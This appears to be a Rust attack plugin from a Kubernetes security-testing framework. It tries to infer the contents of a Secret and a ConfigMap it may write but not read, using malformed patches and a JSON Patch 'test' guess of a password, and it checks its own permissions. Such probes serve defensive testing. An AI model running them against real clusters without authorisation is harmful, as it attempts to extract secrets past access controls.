//! Can change a secret and a config map but not read them, and tries to learn their content from errors of the API
//! server.

#![cfg(target_arch = "wasm32")]

use kf_attacks::plugin::kube::{self, Access, PatchKind, WriteOptions};
use kf_attacks::plugin::ui;
use kf_attacks::{Answer, attack, object};

attack!(run);

/// Prints every answer. Fails with the last refusal.
fn run(_: Vec<String>) -> Answer {
    let mut answers = Vec::new();
    for kind in ["Secret", "ConfigMap"] {
        let object = object(kind, "token");
        for dry_run in [true, false] {
            let options = WriteOptions { dry_run, force: false };
            for body in [
                r#"{"data":{"x":5}}"#,
                r#"{"immutable":"yes"}"#,
                r#"{"metadata":{"labels":[1]}}"#,
                r#"{"data":{"password":"Y29ycmVjdC1ob3JzZQ=="}}"#,
                "{}",
            ] {
                for kind in [PatchKind::Merge, PatchKind::Strategic] {
                    answers.push(kube::patch(&object, kind, body, options));
                }
                answers.push(kube::apply(&object, body, options));
            }
            let guess = r#"[{"op":"test","path":"/data/password","value":"correct-horse"}]"#;
            answers.push(kube::patch(&object, PatchKind::Json, guess, options));
        }
    }
    let question = Access {
        verb: "get".to_owned(),
        group: String::new(),
        resource: "nodes".to_owned(),
        namespace: None,
        name: None,
    };
    answers.push(kube::can_i(&[question]).map(|verdicts| format!("{verdicts:?}")));
    answers.push(kube::whoami().map(|identity| identity.username));
    for answer in &answers {
        match answer {
            Ok(answer) => ui::print(answer.as_bytes())?,
            Err(error) => ui::print(error.message.as_bytes())?,
        }
        ui::print(b"\n")?;
    }
    let refused = answers.into_iter().rev().find_map(Result::err);
    refused.map_or(Ok(0), Err)
}
